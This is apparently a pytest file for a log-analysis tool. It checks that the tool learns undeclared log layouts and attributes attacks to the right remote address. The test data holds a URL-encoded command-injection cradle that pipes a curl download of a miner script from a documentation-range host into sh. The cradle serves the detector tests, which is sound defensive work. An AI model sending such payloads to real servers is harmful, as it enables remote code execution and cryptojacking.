"""Logs in layouts that nobody declared: what was learned is shown, and the user may say it better."""

from __future__ import annotations

from pathlib import Path

from tests.app.running import Kanaria

CRADLE = "/cgi-bin/x?c=%24(curl%20-s%20http://198.51.100.9/xmrig.sh%7Csh)"


def test_a_learned_layout_is_shown_with_the_input(kanaria: Kanaria, tmp_path: Path) -> None:
    (tmp_path / "own.log").write_text(
        f'[02/Jan/2026:03:04:05 +0000] 203.0.113.7 - www.example.org "GET {CRADLE} HTTP/1.1" 404 150 "-" "curl/8" 0.002\n'
        '[02/Jan/2026:03:04:06 +0000] 203.0.113.8 - www.example.org "GET / HTTP/1.1" 200 150 "-" "Mozilla/5.0" 0.002\n'
    )
    done = kanaria("analyze", "--format", "json", "own.log")
    (read,) = done.document["inputs"]
    assert (read["format"], read["rows"], read["unread"]) == ("learned", 2, 0)
    guess = '[$time_local] $remote_addr - $host "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"'
    assert guess in read["note"]["en"]
    assert guess in read["note"]["ja"]
    assert done.incident["entities"]["remotes"] == ["203.0.113.7"]


def test_explain_takes_the_layout_of_the_line(kanaria: Kanaria) -> None:
    line = f"404;203.0.113.7;{CRADLE};GET"
    layout = "$status;$remote_addr;$request_uri;$request_method"
    done = kanaria("explain", "--log-format", layout, "--format", "json", line)
    assert done.document["inputs"][0]["format"] == "logformat"
    assert done.incident["entities"]["remotes"] == ["203.0.113.7"]


def test_labels_dates_and_file_names_are_no_senders(kanaria: Kanaria, tmp_path: Path) -> None:
    request = f'- - [02/Jan/2026:03:04:05 +0000] "GET {CRADLE} HTTP/1.1" 404 150 "-" "curl/8"'
    prefixes = ["/var/log/nginx/access.log.1:", "access.log:17:", "[pod/web-1/nginx] ", "nginx: ", '{app="web"} ',
                "2026-01-02 03:04:05 "]  # fmt: skip
    (tmp_path / "pasted.log").write_text("".join(f"{prefix}203.0.113.7 {request}\n" for prefix in prefixes))
    done = kanaria("analyze", "--format", "json", "pasted.log")
    assert {remote for item in done.document["incidents"] for remote in item["entities"]["remotes"]} == {"203.0.113.7"}
    assert done.document["coverage"]["unread"] == 0
